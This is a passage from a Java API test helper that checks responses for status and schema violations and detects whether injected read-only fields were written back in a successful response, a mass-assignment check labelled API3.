        return pointerPart.replace("~", "~0").replace("/", "~1");
    }

    private static List<String> iterable(Iterator<String> names) {
        List<String> list = new ArrayList<>();
        names.forEachRemaining(list::add);
        return list;
    }


    /** Fails with the call, the answer and what is wrong with it, if anything is. */
    /** The never-writable fields (API3) whose injected value an answer to a successful write carries back. */
    static List<String> written(Answer answer) {
        List<String> found = new ArrayList<>();
        if (answer.status() / 100 != 2 || answer.body() == null || answer.body().isBlank()) {
            return found;
        }
        JsonNode tree;
        try {
            tree = JSON.readTree(answer.body());
        } catch (java.io.IOException notJson) {
            return found;
        }
        List<JsonNode> nodes = new ArrayList<>(List.of(tree));
        while (!nodes.isEmpty()) {
            JsonNode node = nodes.remove(nodes.size() - 1);
            if (node.isObject()) {
                NEVER_WRITABLE.forEach((field, value) -> {
                    if (value.equals(node.get(field))) {
                        found.add("the request wrote " + field + " (API3): the answer carries the injected " + value);
                    }
                });
            }
            node.elements().forEachRemaining(nodes::add);
        }
        return found;
    }

    static void check(Call call) {
        checked(call);
    }

    /** As {@link #check}, returning the answer. */
    static Answer checked(Call call) {
        Answer answer = call(call);
        List<String> violations = violations(call.operation(), answer);
        if (call.kind() == Kind.EXTRA_FIELDS) {
            violations.addAll(written(answer));
        }
        if (call.operation().use() == Use.REFUSED_BODIES_ONLY && call.operation().hasJsonBody()
                && answer.status() / 100 == 2) {
            violations.add("a body sent to be refused was taken: it changed what every other test relies on");
        }
        if (!violations.isEmpty()) {
            throw new AssertionError(call + "\n  answered " + answer.status() + " " + answer.contentType() + " "
                    + shorten(answer.body() == null ? "" : answer.body()) + "\n  " + String.join("\n  ", violations));
        }
        return answer;
    }
}
